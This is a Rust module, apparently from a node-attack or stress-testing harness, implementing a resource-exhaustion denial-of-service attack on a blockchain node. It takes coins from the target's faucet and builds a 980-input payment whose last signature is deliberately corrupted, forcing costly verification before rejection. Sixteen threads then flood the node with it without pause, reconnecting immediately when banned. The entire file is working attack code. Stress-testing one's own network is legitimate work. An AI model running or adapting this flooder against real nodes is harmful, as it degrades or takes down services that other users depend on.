//! Payments that are worth nothing: as long as nodes take them, their last signature wrong.

use std::sync::Arc;
use std::thread;

use anyhow::Context;
use chain::amount::Amount;
use chain::encoding::Encode;
use chain::key::{SecretKey, Signature};
use chain::transaction::{Input, OutPoint, Output, SighashContext, Transaction, Transfer};
use client::directory_client::DirectoryClient;
use client::node_client::{NodeClient, Timeouts};
use wire::hello::Role;
use wire::wallet::{Submit, SubmitOutcome, WalletMessage};
use wire::{ByteString, Message};

use crate::Attack;
use crate::line::{Line, PATIENCE};
use crate::target::Target;

/// Wallets that send at once: as many as one address may have.
const WALLETS: usize = 16;

/// Coins that one payment spends: as many as it may without being too long.
const COINS: u32 = 980;

pub(crate) fn begin(attack: &Arc<Attack>) -> anyhow::Result<()> {
    let transaction = ByteString(worthless(&attack.target)?.encode());
    for _ in 0..WALLETS {
        let (attack, transaction) = (Arc::clone(attack), transaction.clone());
        thread::spawn(move || {
            while !attack.is_over() {
                // Closed or banned, it comes again at once.
                let _ = send_on(&attack, &transaction);
            }
        });
    }
    Ok(())
}

/// Sends the same again and again on one connection, without waiting for answers.
fn send_on(attack: &Attack, transaction: &ByteString) -> anyhow::Result<()> {
    let mut line = Line::greet(&attack.target, Role::Wallet)?;
    while !attack.is_over() {
        let submit = Submit { request: 1, transaction: transaction.clone() };
        line.say(&Message::Wallet(WalletMessage::Submit(submit)))?;
        attack.count();
    }
    Ok(())
}

/// A payment of many coins of one's own, which another one that waits for a block has made.
fn worthless(target: &Target) -> anyhow::Result<Transaction> {
    let secret = SecretKey::from_bytes(getrandom_bytes()?)?;
    let key = secret.output_key();
    let timeouts = Timeouts { connect: PATIENCE, answer: PATIENCE };
    DirectoryClient::connect(target.address, &target.network, timeouts)?.ask_faucet(key)?;
    let mut node = NodeClient::connect(target.address, &target.network, timeouts)?;
    let paid = node.pending(key)?.into_iter().next().context("the faucet pays nothing")?;
    let coins = coins(&paid).filter(|(_, output)| output.key == key).collect::<Vec<_>>();
    let amount: u64 = coins.iter().map(|(_, output)| output.amount.0).sum();
    let part = Output { amount: Amount((amount - amount / 10) / u64::from(COINS)), key };
    let split = transfer(target, &secret, &coins, vec![part; COINS as usize]);
    let outcome = node.submit(&Transaction::Transfer(split.clone()))?;
    anyhow::ensure!(matches!(outcome, SubmitOutcome::Accepted(_)), "{outcome:?}");
    let coins: Vec<_> = self::coins(&split).collect();
    let mut transfer =
        transfer(target, &secret, &coins, vec![Output { amount: Amount(amount / 10), key }]);
    let last = transfer.inputs.last_mut().context("a payment spends something")?;
    last.signature.0[40] ^= 1;
    Ok(Transaction::Transfer(transfer))
}

/// What a transfer makes.
fn coins(transfer: &Transfer) -> impl Iterator<Item = (OutPoint, Output)> {
    let txid = transfer.txid();
    (0..).zip(&transfer.outputs).map(move |(index, output)| (OutPoint { txid, index }, *output))
}

/// Spends coins of `secret`.
fn transfer(
    target: &Target,
    secret: &SecretKey,
    coins: &[(OutPoint, Output)],
    outputs: Vec<Output>,
) -> Transfer {
    let unsigned = |(outpoint, _): &(OutPoint, Output)| Input {
        outpoint: *outpoint,
        signature: Signature([0; 64]),
    };
    let inputs = coins.iter().map(unsigned).collect();
    let mut transfer = Transfer { inputs, outputs, lock_height: 0 };
    let spent: Vec<Output> = coins.iter().map(|(_, output)| *output).collect();
    let context = SighashContext::new(&transfer, &spent, target.network.genesis_hash());
    for (position, input) in (0..).zip(&mut transfer.inputs) {
        input.signature = secret.sign(&context.message(position), &[0; 32]);
    }
    transfer
}

fn getrandom_bytes() -> anyhow::Result<[u8; 32]> {
    let mut bytes = [0; 32];
    getrandom::fill(&mut bytes)?;
    Ok(bytes)
}
